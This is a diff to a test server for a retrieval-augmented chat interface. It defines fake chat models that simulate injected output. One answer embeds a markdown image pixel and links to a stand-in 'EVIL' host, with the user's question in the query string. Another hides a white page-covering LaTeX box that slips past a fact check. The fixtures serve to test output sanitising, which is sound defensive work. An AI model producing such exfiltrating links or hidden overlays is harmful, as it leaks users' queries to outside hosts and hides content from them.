@@ -3,7 +3,7 @@
 carries the question, and a link to an outside host) inside an otherwise supported sentence.
 
 ``latex`` hides a page-covering LaTeX box (``\\rule{\\textwidth}{\\textheight}``) in a supported sentence
-(no number in it, so the fact check lets the sentence through to the page).
+(no number or name in it, so the fact check lets the sentence through to the page).
 
 Usage: python tests/ui/ui_server.py PORT  (settings from the RAG_ environment variables)
 """
@@ -28,7 +28,7 @@ class InjectedChatModel(FakeCitingChatModel):
         source = re.search(r'<source id="1"[^>]*>\n(.*?)\n</source>', prompt, re.DOTALL)
         question = prompt.rsplit("Question:", 1)[-1].strip()
         first = sentences(source.group(1))[0].rstrip(".") if source else "Nothing"
-        return (f"{first} ![pixel](http://{EVIL}/leak.png?q={quote_plus(question.rstrip('?'))}) [1]. "
+        return (f"{first} ![pixel](http://{EVIL}/leak.png?q={quote_plus(question.rstrip('?').lower())}) [1]. "
                 f"See [the details](http://{EVIL}/more) and http://{EVIL}/raw for more [1].")
 
 
@@ -38,7 +38,7 @@ class LatexChatModel(FakeCitingChatModel):
     def _answer(self, messages) -> str:
         source = re.search(r'<source id="1"[^>]*>\n(.*?)\n</source>', str(messages[-1].content), re.DOTALL)
         first = sentences(source.group(1))[0].rstrip(".") if source else "Nothing"
-        return f"{first} $$\\color{{white}}{{\\Huge\\rule{{\\textwidth}}{{\\textheight}}}}$$ [1]."
+        return f"{first} $$\\color{{white}}{{\\rule{{\\textwidth}}{{\\textheight}}}}$$ [1]."
 
 
 if __name__ == "__main__":
